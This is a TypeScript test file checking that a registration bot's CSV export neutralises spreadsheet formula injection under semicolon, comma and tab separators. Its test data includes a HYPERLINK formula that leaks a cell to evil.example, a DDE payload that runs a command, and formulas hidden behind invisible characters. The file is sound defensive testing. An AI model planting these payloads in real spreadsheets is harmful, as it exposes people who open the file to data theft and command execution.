// The registrations CSV against spreadsheet formulas in every locale: hostile answers go through the organiser
// `export` command and `npm run export` (a child process reading the store), and the file is then read as Excel
// would read it with each list separator (";" in French or German, "," or tab elsewhere), quotes honoured or not.
// No cell may start with a formula: = + - @, their fullwidth forms, or any of them behind invisible characters.
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { fileContent } from '../src/core/file-content.js';
import type { Registration } from '../src/core/store/records.js';
import { testBot, type TestBot } from './helpers/bot.js';

const ROOT = join(fileURLToPath(import.meta.url), '..', '..');
const ORGANISER = { id: 'console:local' };

/** Each hostile value, and the cell the export must hold for it (read back with ","). */
const HOSTILE: [value: string, cell: string][] = [
  ['x;=1+2;y', "x;'=1+2;y"],
  ['x,=1+2,y', "x,'=1+2,y"],
  ['x\t=1+2', "x\t'=1+2"],
  ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', `'=HYPERLINK("http://evil.example/?x="&A2,"Click")`],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ['+1+cmd', "'+1+cmd"],
  ['-1+2', "'-1+2"],
  ['\tleading tab', "'\tleading tab"],
  ['\t=1+2', "'\t'=1+2"],
  ['\u200b=1+2', "\u200b'=1+2"],
  ['\ufeff=1+2', "\ufeff'=1+2"],
  ['\u2060@SUM(A1)', "\u2060'@SUM(A1)"],
  ['\u202e\u200f=1+2', "\u202e\u200f'=1+2"],
  ['\uff1d1+2', "'\uff1d1+2"],
  ['\uff0b1+2', "'\uff0b1+2"],
  ['\uff0d1+2', "'\uff0d1+2"],
  ['\uff20SUM(A1)', "'\uff20SUM(A1)"],
  ['x; =1+2', "x; '=1+2"],
  ['x; \t=1+2', "x; \t'=1+2"],
  ['x;"=1+2"', `x;"'=1+2"`],
  ['x;\u200b\uff1dcmd', "x;\u200b'\uff1dcmd"],
  ['x\n=1+2', "x\n'=1+2"],
  ['x\r\n@y', "x\r\n'@y"],
  ['Ministère du Travail; Emploi', 'Ministère du Travail; Emploi'],
];
const FORMULA_START = /^[\s\p{Cf}\p{Cc}"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

function registration(i: number, value: string): Registration {
  const id = `R${String(i).padStart(5, '0')}`;
  return {
    id, email: `r${i}@example.org`, name: value, organisation: value, nominatedBy: value,
    country: 'FR', role: 'practitioner', institution: 'ministry', region: 'ECA', interpretation: 'fr', consentAt: '2021-05-01T10:00:00.000Z', lang: 'fr',
    status: 'confirmed', invited: false, userIds: [`slack:T1:U${i}`],
    createdAt: `2021-05-01T10:${String(i).padStart(2, '0')}:00.000Z`, updatedAt: '2021-05-01T10:00:00.000Z',
  };
}

/** Every cell of `csv` as a spreadsheet set to `separator` may see it: quotes honoured, and (as Excel does mid-field) not. */
function cellsAsRead(csv: string, separator: string): string[] {
  const quoted = (parse(csv, { delimiter: separator, bom: true, relax_quotes: true, relax_column_count: true }) as string[][]).flat();
  const bare = csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
  return [...quoted, ...bare];
}

function expectNoFormula(csv: string): void {
  for (const separator of [';', ',', '\t']) {
    const starting = cellsAsRead(csv, separator).filter((cell) => FORMULA_START.test(cell));
    expect(starting, `read with ${JSON.stringify(separator)}`).toEqual([]);
  }
  // and as written: each hostile value is one quoted cell holding its neutralised text, in all three free-text columns
  const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
  expect(rows.map((r) => [r.name, r.organisation, r.nominated_by])).toEqual(HOSTILE.map(([, cell]) => [cell, cell, cell]));
}

let bot: TestBot | undefined;
afterEach(async () => {
  await bot?.store.close();
  bot = undefined;
});

async function botWithHostileRegistrations(): Promise<TestBot> {
  bot = await testBot('2021-05-04T14:00:00Z', { CKEX_ADMINS: 'console:local' });
  for (const [i, [value]] of HOSTILE.entries()) await bot.store.saveRegistration(registration(i + 1, value));
  return bot;
}

describe('the registrations CSV read with any list separator', () => {
  it('the organiser `export` command: no cell starts a formula, whether read with ";", "," or tab', async () => {
    const b = await botWithHostileRegistrations();
    const csv = await fileContent(b.core, (await b.reply('export', ORGANISER)).files![0]!);
    expectNoFormula(csv);
    // a cell holding ";" or a tab is quoted, as one holding "," always was
    expect(csv).toContain(`"x;'=1+2;y"`);
    expect(csv).toContain(`"x\t'=1+2"`);
    expect(csv).toContain('"Ministère du Travail; Emploi"');
  });

  it('`npm run export` from the store file: the same file, as safe', async () => {
    const b = await botWithHostileRegistrations();
    const inChat = await fileContent(b.core, (await b.reply('export', ORGANISER)).files![0]!);
    await b.store.close();
    bot = undefined;
    const result = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/export.ts'], { encoding: 'utf8', cwd: ROOT, timeout: 20_000, env: { ...process.env, DATA_DIR: b.dataDir } });
    expect(result.status).toBe(0);
    expectNoFormula(result.stdout);
    expect(result.stdout).toBe(inChat);
  });
});
